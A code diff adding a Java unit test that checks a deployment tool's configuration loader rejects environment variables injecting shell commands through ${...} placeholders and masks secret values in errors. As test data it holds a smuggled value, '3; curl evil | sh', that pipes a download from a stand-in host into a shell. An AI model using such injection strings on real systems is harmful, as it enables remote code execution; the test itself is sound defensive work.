@@ -135,6 +135,38 @@ class OverridesTest {
     }
 
     /**
+     * An environment variable placed into a command's text was not held to the rule of a label:
+     * {@code helm rollback app ${REVISION}} with {@code REVISION='3; curl evil | sh'} ran {@code curl}
+     * in the rollback. A problem of the command's key naming the variable, its value not shown when
+     * the name says secret; {@code "$REVISION"}, which the shell reads itself, and a plain value stay fine.
+     */
+    @Test
+    void anEnvironmentVariableThatAPlaceholderPutsIntoACommandMustHoldNothingAShellReads() {
+        Map<String, String> p = file();
+        p.put("vigil.rollback.command", "helm rollback app ${REVISION}");
+        p.put("vigil.probes.check.command", "curl -fsS -H 'X-Key: ${DEPLOY_TOKEN}' http://x.internal/health");
+
+        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
+                () -> config(Map.of("REVISION", "3; curl evil | sh", "DEPLOY_TOKEN", "tok$never-shown"), Map.of()).load(p));
+
+        assertThat(e).isNotNull();
+        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.rollback.command",
+                "vigil.probes.check.command");
+        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.rollback.command")).singleElement()
+                .satisfies(q -> assertThat(q.message()).startsWith("its ${REVISION} placeholder would put '3; curl evil | sh'"
+                        + " into the command, which /bin/sh -c runs, and ';' would run or redirect what follows it: let the"
+                        + " shell read the variable instead, \"$REVISION\" in double quotes in place of ${REVISION}"));
+        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.probes.check.command")).singleElement()
+                .satisfies(q -> assertThat(q.message()).contains("the value of DEPLOY_TOKEN (not shown"));
+        assertThat(e.getMessage()).doesNotContain("never-shown");
+
+        p.put("vigil.rollback.command", "helm rollback app \"$REVISION\"");
+        assertThat(config(Map.of("REVISION", "3; curl evil | sh", "DEPLOY_TOKEN", "tok-1"), Map.of()).load(p)).isNotNull();
+        p.put("vigil.rollback.command", "helm rollback app ${REVISION}");
+        assertThat(config(Map.of("REVISION", "3", "DEPLOY_TOKEN", "tok-1"), Map.of()).load(p)).isNotNull();
+    }
+
+    /**
      * A label placed into a PromQL query must hold nothing that ends a quoted value: with
      * {@code team="payments\"} or vector(0) or {x=\""} the errors query of a team would read 0 for
      * any service, a pass, without a word. Versions were refused such characters already.
